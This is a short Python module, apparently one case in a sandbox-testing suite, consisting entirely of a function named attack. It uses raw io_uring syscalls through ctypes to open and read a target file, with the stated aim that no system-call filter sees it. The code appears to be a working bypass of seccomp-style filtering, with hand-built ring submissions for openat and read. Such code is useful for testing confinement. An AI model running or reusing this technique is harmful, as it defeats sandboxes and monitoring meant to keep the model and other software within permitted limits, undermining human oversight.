"""Has the kernel's io_uring open and read a trial: no filter of system calls sees that."""

import ctypes
import mmap
import os
import struct


def attack(world):
    def number_at(place):
        return struct.unpack_from("=I", parameters, place)[0]

    library = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = library.syscall(425, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "no io_uring")
    queue = mmap.mmap(ring, 4096, offset=0)
    done = mmap.mmap(ring, 4096, offset=0x8000000)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    _, tail, mask, _, _, _, array = struct.unpack_from("=7I", parameters, 40)
    results = number_at(80 + 20)

    def run(code, descriptor, address, length, flags):
        entries[:64] = struct.pack("=BBHiQQIIQ24x", code, 0, 0, descriptor, 0, address, length, flags, 0)
        at = struct.unpack_from("=I", queue, tail)[0]
        struct.pack_into("=I", queue, array + 4 * (at & struct.unpack_from("=I", queue, mask)[0]), 0)
        struct.pack_into("=I", queue, tail, at + 1)
        library.syscall(426, ring, 1, 1, 1, None, 0)
        return struct.unpack_from("=i", done, results + 16 * at + 8)[0]

    path, data = ctypes.create_string_buffer(world["trial"].encode()), ctypes.create_string_buffer(1000)
    file = run(18, -100, ctypes.addressof(path), 0, os.O_RDONLY)
    if file < 0:
        raise OSError(-file, "io_uring opens nothing")
    run(22, file, ctypes.addressof(data), 1000, 0)
    return data.value.decode()
